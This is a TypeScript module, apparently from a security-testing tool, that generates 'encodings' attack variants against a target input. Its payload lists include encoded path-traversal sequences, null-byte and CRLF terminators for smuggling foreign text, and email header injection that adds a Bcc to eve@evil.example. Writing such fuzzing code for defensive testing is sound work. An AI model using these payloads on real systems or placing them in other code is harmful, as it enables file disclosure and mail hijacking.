import type { AttackFamily, AttackTarget, Variant } from '../attack-family.ts';
import { recorded, type TextPart, text } from '../draft.ts';
import { climbOf, foreignText, looksLikePath } from '../foreign-text.ts';

/** Spells what a pattern looks for in a way that another reader undoes, or ends the text where one stops to read. */
export const encodings: AttackFamily = {
  name: 'encodings',
  of: 'text',
  variants: (target) => [
    ...(looksLikePath(target) ? climbs(target) : []),
    ...(target.kind === 'email' ? headers(target) : []),
    ...breaks(target),
  ],
};

/** `../` as some decoder or file system reads it. */
const ups = [
  '%2e%2e/',
  '%2E%2E/',
  '.%2e/',
  '%2e%2e%2f',
  '..%2f',
  '..%2F',
  '%252e%252e%252f',
  '..%252f',
  '%25252e%25252e%25252f',
  '..\\',
  '\\..\\',
  '..%5c',
  '%2e%2e%5c',
  '..%c0%af',
  '%c0%ae%c0%ae/',
  '..;/',
  '....//',
  '..%00/',
  '%u002e%u002e/',
];

function climbs(target: AttackTarget): readonly Variant[] {
  const { folder, tail } = climbOf(target);
  return ups.map((up) => ({
    what: '`..` spelled so that another reader decodes it',
    draft: text(recorded(folder), `${up}${tail}`),
  }));
}

const ends = ['\0', '%00', '\n', '\r\n', '%0a', '%0d%0a', ' ', '\t', '#', '?', ';', ','];

function breaks(target: AttackTarget): readonly Variant[] {
  const { text: own = '' } = target;
  const foreign = foreignText(target);
  const drafts: readonly (readonly TextPart[])[] = [
    ...ends.flatMap((end) => [
      [recorded(own), `${end}${foreign}`],
      [`${foreign}${end}`, recorded(own)],
    ]),
    [recorded(own), '\0'],
    [recorded(own), '\n'],
    [recorded(own), ' '],
    [' ', recorded(own)],
    ['\n', recorded(own)],
    ['"', recorded(own), '"'],
    [recorded(percentEncoded(own))],
  ];
  return drafts.map((parts) => ({ what: 'a sign where some readers end the text', draft: text(...parts) }));
}

/** The first letter or digit by its number. */
function percentEncoded(own: string): string {
  return own.replace(/[A-Za-z0-9]/, (sign) => `%${sign.charCodeAt(0).toString(16)}`);
}

const mailbox = 'eve@evil.example';

function headers({ text: own = '' }: AttackTarget): readonly Variant[] {
  const drafts: readonly (readonly TextPart[])[] = [
    [recorded(own), `\r\nBcc: ${mailbox}`],
    [`${mailbox}\r\nX: `, recorded(own)],
    ['=?utf-8?q?eve=40evil.example=2c?=', recorded(own)],
    [`"${mailbox}"`, recorded(own)],
  ];
  return drafts.map((parts) => ({ what: 'an address that mail readers decode', draft: text(...parts) }));
}
